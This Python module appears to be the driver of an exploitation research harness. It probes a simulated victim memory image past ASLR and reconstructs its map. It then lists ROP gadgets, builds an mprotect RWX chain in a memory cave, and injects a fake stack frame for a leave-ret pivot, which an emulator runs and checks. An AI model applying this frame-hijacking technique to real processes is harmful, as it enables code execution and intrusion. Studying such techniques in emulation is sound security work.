"""Attack pipeline and command line front end.

The pipeline drives the whole flow against a loaded victim image: explore
accessibility from the two seed addresses, classify writability, census
gadgets, pick a cave, forge and inject the fake frame, then execute the
pivot on the machine model and judge the outcome.  The only addresses it is
given are the image's seed pair; everything else must come out of probes.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import sys
from dataclasses import dataclass, field
from pathlib import Path

from . import caves as caves_mod
from . import explorer, gadgets, injector, machine
from .memspace import (
    PAGE_SIZE,
    AddressSpace,
    GroundTruthMap,
    load_manifest,
    parse_proc_maps,
)
from .probe import Prober, ProbeConfig

STAGES = ("probe", "explore", "gadgets", "caves", "inject", "execute")
MODES = ("linear", "pointer-chase", "hybrid")
RESTORE_MODES = ("payload", "chain-only")

ENV_SEED = "CAVEPROBE_SEED"

EXIT_OK = 0
EXIT_STAGE_ERROR = 2
EXIT_VERDICT_FAILURE = 3

_ASLR_PAGE_BITS = 28  # pages of entropy for the base shift


@dataclass(frozen=True)
class PipelineConfig:
    image_path: str
    mode: str = "hybrid"
    seed: int = 0
    spurious_prob: float = 0.001
    cave_min_len: int = PAGE_SIZE
    chain_variant: str = "sound-5"
    restore: str = "payload"
    ground_truth_path: str | None = None
    stop_after: str = "execute"
    aslr: bool = True
    explore_budget: int = explorer.DEFAULT_BUDGET
    max_steps: int = 100_000

    def __post_init__(self) -> None:
        if self.mode not in MODES:
            raise ValueError(f"mode must be one of {MODES}")
        if self.stop_after not in STAGES:
            raise ValueError(f"stop_after must be one of {STAGES}")
        if self.chain_variant not in gadgets.CHAIN_VARIANTS:
            raise ValueError(f"chain_variant must be one of {gadgets.CHAIN_VARIANTS}")
        if self.restore not in RESTORE_MODES:
            raise ValueError(f"restore must be one of {RESTORE_MODES}")
        if self.cave_min_len <= 0 or self.cave_min_len % PAGE_SIZE:
            raise ValueError("cave_min_len must be a positive page multiple")


class StageError(RuntimeError):
    """A pipeline stage could not complete."""

    def __init__(self, stage: str, cause: Exception):
        super().__init__(f"stage {stage!r} failed: {cause}")
        self.stage = stage
        self.cause = cause


@dataclass
class AttackReport:
    config: PipelineConfig
    aslr_offset: int = 0
    stages: list[str] = field(default_factory=list)
    exploration: dict = field(default_factory=dict)
    reconstructed: explorer.ReconstructedMap | None = None
    map_mismatches: list[str] = field(default_factory=list)
    gadget_census: dict[str, tuple[int, ...]] = field(default_factory=dict)
    cave_list: list = field(default_factory=list)
    injection: dict = field(default_factory=dict)
    run: dict = field(default_factory=dict)
    verdicts: dict[str, bool] = field(default_factory=dict)
    probe_counters: dict[str, int] = field(default_factory=dict)

    def all_verdicts_pass(self) -> bool:
        return all(self.verdicts.values())

    def to_json_obj(self) -> dict:
        cfg = {
            "image-path": self.config.image_path,
            "mode": self.config.mode,
            "seed": self.config.seed,
            "spurious-prob": self.config.spurious_prob,
            "cave-min-len": f"{self.config.cave_min_len:#x}",
            "chain-variant": self.config.chain_variant,
            "restore": self.config.restore,
            "ground-truth-path": self.config.ground_truth_path,
            "stop-after": self.config.stop_after,
            "aslr": self.config.aslr,
            "explore-budget": self.config.explore_budget,
        }
        obj: dict = {
            "tool": "caveprobe",
            "config": cfg,
            "aslr-offset": f"{self.aslr_offset:#x}",
            "stages": list(self.stages),
            "probe-counters": dict(sorted(self.probe_counters.items())),
        }
        if "probe" in self.stages:
            obj["exploration"] = self.exploration
        if self.reconstructed is not None:
            obj["reconstructed-map"] = self.reconstructed.to_json_obj()
            if self.config.ground_truth_path is not None:
                obj["map-mismatches"] = list(self.map_mismatches)
        if "gadgets" in self.stages:
            obj["gadgets"] = {
                name: [f"{a:#x}" for a in addrs]
                for name, addrs in sorted(self.gadget_census.items())
            }
        if "caves" in self.stages:
            obj["caves"] = [
                {"start": f"{c.start:#x}", "len": f"{c.length:#x}"}
                for c in self.cave_list
            ]
        if "inject" in self.stages:
            obj["injection"] = self.injection
        if "execute" in self.stages:
            obj["run"] = self.run
        obj["verdicts"] = dict(sorted(self.verdicts.items()))
        return obj


def emit_report(report: AttackReport, fmt: str = "json") -> str:
    """Render a report deterministically; identical runs give identical text."""
    if fmt == "json":
        return json.dumps(report.to_json_obj(), indent=2, sort_keys=True) + "\n"
    if fmt != "text":
        raise ValueError(f"unknown report format {fmt!r}")
    lines = [
        "caveprobe report",
        f"  image: {report.config.image_path}",
        f"  mode: {report.config.mode}  seed: {report.config.seed}  "
        f"aslr-offset: {report.aslr_offset:#x}",
        f"  stages: {' -> '.join(report.stages)}",
    ]
    if report.exploration:
        e = report.exploration
        lines.append(
            f"  probed {e['pages-probed']} pages, "
            f"{e['accessible-pages']} accessible"
        )
    if report.reconstructed is not None:
        lines.append("  reconstructed map:")
        for run in report.reconstructed.runs:
            lines.append(f"    {run.start:x}-{run.end:x} {run.kind.value}")
    if report.gadget_census:
        counts = ", ".join(
            f"{name}:{len(addrs)}" for name, addrs in sorted(report.gadget_census.items())
        )
        lines.append(f"  gadgets: {counts}")
    if report.cave_list:
        lines.append("  caves:")
        for c in report.cave_list:
            lines.append(f"    {c.start:x}+{c.length:x}")
    if report.run:
        lines.append(
            f"  run: {report.run['steps']} steps, {report.run['stop-reason']}"
        )
    if report.verdicts:
        lines.append("  verdicts:")
        for name, ok in sorted(report.verdicts.items()):
            lines.append(f"    {name}: {'pass' if ok else 'FAIL'}")
    return "\n".join(lines) + "\n"


class Pipeline:
    """One attack run against one image.  Kept as an object so tests can
    reach the loaded space and prober behind a finished report."""

    def __init__(self, config: PipelineConfig):
        self.config = config
        self.space: AddressSpace | None = None
        self.prober: Prober | None = None
        self.truth: GroundTruthMap | None = None
        self.seeds: explorer.SeedSet | None = None
        self.report = AttackReport(config=config)

    # -- stage bodies ---------------------------------------------------------

    def _load(self) -> None:
        cfg = self.config
        path = Path(cfg.image_path)
        text = path.read_text()
        doc = json.loads(text)
        seed_obj = doc.get("seeds")
        if not isinstance(seed_obj, dict):
            raise ValueError('image manifest lacks a "seeds" object')
        return_site = int(seed_obj["return_site"], 16)
        stack_pointer = int(seed_obj["stack_pointer"], 16)

        space = load_manifest(text, base_dir=path.parent)
        offset = 0
        if cfg.aslr:
            aslr_rng = random.Random(f"{cfg.seed}:aslr")
            offset = aslr_rng.randrange(1 << _ASLR_PAGE_BITS) * PAGE_SIZE
            space = space.shifted(offset, relocate_pointers=True)
            return_site += offset
            stack_pointer += offset
        self.report.aslr_offset = offset
        self.space = space
        self.seeds = explorer.SeedSet((return_site, stack_pointer))
        self.prober = Prober(
            ProbeConfig(
                spurious_abort_probability=cfg.spurious_prob,
                rng_seed=cfg.seed,
            )
        )
        if cfg.ground_truth_path is not None:
            truth = parse_proc_maps(Path(cfg.ground_truth_path).read_text())
            self.truth = truth.shifted(offset) if offset else truth

    def _stage_probe(self) -> None:
        cfg = self.config
        self.pagemap = explorer.explore(
            self.space, self.prober, cfg.mode, self.seeds, cfg.explore_budget
        )
        accessible = self.pagemap.accessible_pages()
        self.report.exploration = {
            "mode": cfg.mode,
            "pages-probed": len(self.pagemap.entries),
            "accessible-pages": len(accessible),
        }

    def _stage_explore(self) -> None:
        # grow every accessible hit to its full contiguous extent, then
        # classify each extent page by page with write probes
        accessible = self.pagemap.accessible_pages()
        if not accessible:
            raise ValueError("exploration found nothing accessible")
        extents: list[tuple[int, int]] = []
        covered: set[int] = set()
        for base in accessible:
            if base in covered:
                continue
            lo, hi = explorer.region_around(self.space, self.prober, base)
            covered.update(range(lo, hi, PAGE_SIZE))
            extents.append((lo, hi))
        extents.sort()

        all_runs: list[explorer.MapRun] = []
        matched = True
        mismatches: list[str] = []
        for lo, hi in extents:
            recon = explorer.reconstruct_map(self.space, self.prober, lo, hi)
            all_runs.extend(recon.runs)
            for run in recon.runs:
                writable = run.kind is explorer.Writability.WRITABLE
                acc = run.kind is not explorer.Writability.INACCESSIBLE
                for page in range(run.start, run.end, PAGE_SIZE):
                    self.pagemap.entries[page] = explorer.PageEntry(
                        acc, writable if acc else None
                    )
            if self.truth is not None:
                ok, mm = explorer.match_ground_truth(recon, self.truth)
                matched = matched and ok
                mismatches.extend(mm)
        self.report.reconstructed = explorer.ReconstructedMap(tuple(all_runs))
        self.report.exploration["extents"] = len(extents)
        if self.truth is not None:
            self.report.map_mismatches = mismatches
            self.report.verdicts["map-match"] = matched

    def _codemap(self) -> set[int]:
        # non-writable accessible pages are where return addresses and
        # gadgets can live; writable pages would make neither trustworthy
        return {
            base
            for base, entry in self.pagemap.entries.items()
            if entry.accessible and entry.writable is False
        }

    def _stage_gadgets(self) -> None:
        code_map = explorer.PageMap(
            {
                base: explorer.PageEntry(True)
                for base in sorted(self._codemap())
            }
        )
        self.catalog = gadgets.find_gadgets(self.space, code_map)
        self.report.gadget_census = dict(self.catalog.found)
        needed = list(gadgets.required_kinds(self.config.chain_variant))
        needed.append("leave-ret")  # the pivot's epilogue reuse
        missing = [k for k in needed if not self.catalog.found.get(k)]
        if missing:
            raise gadgets.MissingGadgetError(missing)

    def _stage_caves(self) -> None:
        self.cave_list = caves_mod.find_caves(
            self.space, self.prober, self.pagemap, self.config.cave_min_len
        )
        self.report.cave_list = self.cave_list

    def _stage_inject(self) -> None:
        cfg = self.config
        space, prober = self.space, self.prober
        stack_ptr = self.seeds.pointers[1]
        stack_region = explorer.region_around(space, prober, stack_ptr)
        victim = injector.locate_victim_frame(
            space, prober, stack_ptr, stack_region, self._codemap()
        )
        record = injector.restoration_record(victim)

        chain = gadgets.build_mprotect_chain(
            self.catalog,
            0,  # placeholder; rebuilt below once the cave is known
            PAGE_SIZE,
            machine.PROT_RWX,
            cfg.chain_variant,
            space,
        )
        n_words = len(chain.words) + 2  # plus saved-rbp copy and continuation
        payload_off = (8 * n_words + 15) & ~15

        if cfg.restore == "payload":
            # size the payload against the cleanup the layout implies
            ranges = ((0, payload_off),)
            probe_payload = machine.assemble_payload(record, list(ranges), (0, 0))
            need_len = payload_off + len(probe_payload) + 8  # final marker slot
        else:
            need_len = 8 * n_words
        need_len = max(need_len, 1)

        cave = caves_mod.select_cave(self.cave_list, need_len)
        chain = gadgets.build_mprotect_chain(
            self.catalog, cave.start, cave.length,
            machine.PROT_RWX, cfg.chain_variant, space,
        )
        if cfg.restore == "payload":
            marker_addr = cave.start + cave.length - 8
            marker_value = random.Random(f"{cfg.seed}:marker").getrandbits(64) | 1
            payload = machine.assemble_payload(
                record,
                [(cave.start, payload_off)],
                (marker_addr, marker_value),
            )
        else:
            marker_addr = None
            marker_value = None
            payload = b""

        image = injector.forge_fake_frame(victim, chain, payload, cave)
        if payload:
            assert image.payload_addr == cave.start + payload_off
            assert image.payload_addr + len(payload) <= marker_addr

        epilogue = self.catalog.lowest("leave-ret")
        self.canary_before = space.read_bytes(victim.canary_slot_addr, 8)
        rec = injector.inject(space, prober, victim, image, epilogue)

        self.victim = victim
        self.record = record
        self.injection_rec = rec
        self.cave = cave
        self.marker = (marker_addr, marker_value)
        self.epilogue = epilogue
        self.report.injection = {
            "cave": {"start": f"{cave.start:#x}", "len": f"{cave.length:#x}"},
            "victim-slot": f"{victim.rbp_slot_addr:#x}",
            "resume-rip": f"{record.resume_rip:#x}",
            "epilogue-gadget": f"{epilogue:#x}",
            "chain-words": [
                {"value": f"{w.value:#x}", "role": w.role} for w in image.words
            ],
            "payload-addr": (
                f"{image.payload_addr:#x}" if image.payload_addr else None
            ),
            "payload-len": len(payload),
            "marker-addr": f"{marker_addr:#x}" if marker_addr else None,
            "cleanup-ranges": [
                {"start": f"{s:#x}", "len": f"{l:#x}"}
                for s, l in rec.cleanup_ranges
            ],
            "overwritten": [f"{v:#x}" for v in rec.overwritten],
        }

    def _stage_execute(self) -> None:
        cfg = self.config
        state = machine.MachineState()
        # the victim is paused right at its epilogue: base pointer at the
        # frame we armed, stack pointer somewhere below in its locals
        state.set_reg("rbp", self.victim.rbp_slot_addr)
        state.set_reg("rsp", self.victim.rbp_slot_addr - 0x40)
        if cfg.chain_variant == "short-4":
            # the short chain assumes the register already holds the
            # protection value when the return fires
            state.set_reg("rdx", machine.PROT_RWX)
        state.rip = self.epilogue
        result = machine.run_until(
            state, self.space, self.record.resume_rip, cfg.max_steps
        )

        effects = []
        for eff in result.side_effects:
            if isinstance(eff, machine.SyscallEffect):
                effects.append(
                    {
                        "kind": "syscall",
                        "name": eff.name,
                        "args": [f"{a:#x}" for a in eff.args],
                        "ret": eff.ret,
                    }
                )
            else:
                effects.append(
                    {"kind": "store", "addr": f"{eff.addr:#x}", "value": f"{eff.value:#x}"}
                )
        self.report.run = {
            "steps": result.steps,
            "stop-reason": result.stop_reason,
            "status": result.final_state.status,
            "final-rip": f"{result.final_state.rip:#x}",
            "final-rsp": f"{result.final_state.reg('rsp'):#x}",
            "final-rbp": f"{result.final_state.reg('rbp'):#x}",
            "side-effects": effects,
        }

        rec = self.record
        restored = (
            result.stop_reason == "reached-stop"
            and result.final_state.rip == rec.resume_rip
            and result.final_state.reg("rbp") == rec.resume_rbp
        )
        if cfg.restore == "payload":
            restored = restored and result.final_state.reg("rsp") == rec.resume_rsp
        self.report.verdicts["restoration"] = restored

        if cfg.restore == "payload":
            zeroed = all(
                self.space.read_bytes(start, length) == bytes(length)
                for start, length in self.injection_rec.cleanup_ranges
            )
            self.report.verdicts["cleanup-zeroed"] = zeroed
            marker_addr, marker_value = self.marker
            marker_ok = (
                self.space.read_bytes(marker_addr, 8)
                == marker_value.to_bytes(8, "little")
            )
            self.report.verdicts["marker-written"] = marker_ok

        canary_now = self.space.read_bytes(self.victim.canary_slot_addr, 8)
        self.report.verdicts["canary-intact"] = canary_now == self.canary_before

    # -- driver ---------------------------------------------------------------

    def run(self) -> AttackReport:
        try:
            self._load()
        except Exception as exc:
            raise StageError("load", exc) from exc
        bodies = {
            "probe": self._stage_probe,
            "explore": self._stage_explore,
            "gadgets": self._stage_gadgets,
            "caves": self._stage_caves,
            "inject": self._stage_inject,
            "execute": self._stage_execute,
        }
        for stage in STAGES:
            try:
                bodies[stage]()
            except Exception as exc:
                raise StageError(stage, exc) from exc
            self.report.stages.append(stage)
            if stage == self.config.stop_after:
                break
        self.report.probe_counters = dict(self.prober.counters)
        return self.report


def run_pipeline(config: PipelineConfig) -> AttackReport:
    return Pipeline(config).run()


# --- command line ------------------------------------------------------------

def _build_parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(
        prog="caveprobe",
        description=(
            "Probe a victim image without faulting, reconstruct its memory "
            "map, and verify a fake-stack-frame pivot end to end."
        ),
    )
    p.add_argument("--image-path", required=True, help="victim image manifest (JSON)")
    p.add_argument("--mode", choices=MODES, default="hybrid")
    p.add_argument(
        "--seed",
        type=int,
        default=None,
        help=f"master RNG seed (default: ${ENV_SEED} or 0)",
    )
    p.add_argument("--spurious-prob", type=float, default=0.001)
    p.add_argument(
        "--cave-min-len", type=lambda s: int(s, 0), default=PAGE_SIZE
    )
    p.add_argument("--chain-variant", choices=gadgets.CHAIN_VARIANTS, default="sound-5")
    p.add_argument("--restore", choices=RESTORE_MODES, default="payload")
    p.add_argument("--ground-truth-path", default=None)
    p.add_argument("--stop-after", choices=STAGES, default="execute")
    p.add_argument("--no-aslr", dest="aslr", action="store_false")
    p.add_argument("--explore-budget", type=int, default=explorer.DEFAULT_BUDGET)
    p.add_argument("--format", choices=("json", "text"), default="json")
    p.add_argument("--out", default=None, help="write the report here instead of stdout")
    return p


def main(argv: list[str] | None = None) -> int:
    args = _build_parser().parse_args(argv)
    seed = args.seed
    if seed is None:
        seed = int(os.environ.get(ENV_SEED, "0"))
    try:
        config = PipelineConfig(
            image_path=args.image_path,
            mode=args.mode,
            seed=seed,
            spurious_prob=args.spurious_prob,
            cave_min_len=args.cave_min_len,
            chain_variant=args.chain_variant,
            restore=args.restore,
            ground_truth_path=args.ground_truth_path,
            stop_after=args.stop_after,
            aslr=args.aslr,
            explore_budget=args.explore_budget,
        )
    except ValueError as exc:
        print(f"caveprobe: {exc}", file=sys.stderr)
        return EXIT_STAGE_ERROR
    try:
        report = run_pipeline(config)
    except StageError as exc:
        print(f"caveprobe: {exc}", file=sys.stderr)
        return EXIT_STAGE_ERROR
    text = emit_report(report, args.format)
    if args.out:
        Path(args.out).write_text(text)
    else:
        sys.stdout.write(text)
    return EXIT_OK if report.all_verdicts_pass() else EXIT_VERDICT_FAILURE


if __name__ == "__main__":
    sys.exit(main())
